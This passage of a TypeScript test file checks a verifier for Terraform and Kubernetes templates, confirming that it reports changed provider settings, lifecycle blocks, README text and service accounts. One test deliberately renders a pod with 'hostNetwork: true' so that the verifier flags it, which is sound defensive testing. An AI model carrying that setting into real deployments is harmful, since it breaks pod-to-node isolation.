            '{{#each variables}}{{#if this.validation}}\nvariable {{hcl this.name}} {\n  description = {{hcl this.description}}\n  type = {{hcl this.type}}\n  default = {{hcl this.default}}\n  nullable = false\n  validation {\n    condition = {{hcl this.validation.condition}}\n    error_message = {{hcl this.validation.message}}\n  }\n}\n{{/if}}{{/each}}\n',
          'terraform/providers.tf.hbs':
            'provider "aws" {\n  region = var.region\n  allowed_account_ids = [{{hcl accountId}}]\n}\n',
        },
        '',
      ],
      [
        ...['access_key', 'secret_key'].map((name) => `${name} (removed) in provider aws`),
        ...['credentials_validation', 'metadata_api_check', 'region_validation', 'requesting_account_id'].map(
          (name) => `skip_${name} (removed) in provider aws`,
        ),
        'variable.offline (removed)',
      ],
    ],
    [
      'what Terraform is told about an object',
      () =>
        inPlace(
          'terraform/role.tf',
          '  description = {{hcl role.description}}',
          '  description = {{hcl role.description}}\n  depends_on = [aws_iam_policy.us_east_1_demo_k8s_web_sa_app]\n  lifecycle {\n    prevent_destroy = true\n  }',
        ),
      [
        'depends_on in aws_iam_role.us_east_1_demo_k8s_web_sa_app',
        'lifecycle.prevent_destroy in aws_iam_role.us_east_1_demo_k8s_web_sa_app',
      ],
    ],
    [
      'text of the runbook',
      () => [{ 'docs/partials/end.md.hbs': 'Ask us.\n' }, ''],
      ['the text of README.md'],
    ],
  ];
  test.each(added)('%s', async (_name, given, names) => {
    expect(await under(...given())).toEqual({ refused: [], adds: names });
  });
});

test('of manifests that are alike each is held against the spec', async () => {
  const standard = withOwnTemplates(
    aStandard(),
    changed(
      'kubernetes/partials/pod-spec.yaml',
      '{{yaml workload.serviceAccount}}',
      '{{yaml workload.name}}\nhostNetwork: {{#if workload.pod.replicas}}false{{else}}true{{/if}}',
    ),
  );
  const alike = (name: string, serviceAccount: string, replicas: number) =>
    aWorkload({ name, serviceAccount, pod: aPod({ replicas }) });
  const workloads = [
    alike('first', 'first', 2),
    alike('a-longer-name', 'a-longer-name', 3),
    alike('other', 'third', 4),
    alike('last', 'last', 0),
  ];
  const model = modelUnder(standard, { ...SPEC, workloads });
  const { diagnostics } = await verifyTemplates(
    await renderUnder(standard, model),
    await render(model),
    model,
  );
  expect(diagnostics.map(({ message, place }) => `${place?.file}:${place?.line}: ${message}`)).toEqual([
    'kubernetes/last/deployment.yaml:32: Deployment last: spec.template.spec.hostNetwork = true lets the pod out onto its node',
    'kubernetes:1: kubernetes lacks: the Deployment other runs as web/third',
  ]);
});

test('files of Terraform that stay as they are are read with those that change, beside manifests that change', async () => {
  const { refused } = await under({
    'kubernetes/partials/labels.yaml.hbs': 'team: web\n',
    ...changed('terraform/role.tf', '# {{comment header}}', '# {{comment header}}\n# Ours.'),
  });
  expect(refused).toEqual([]);
});
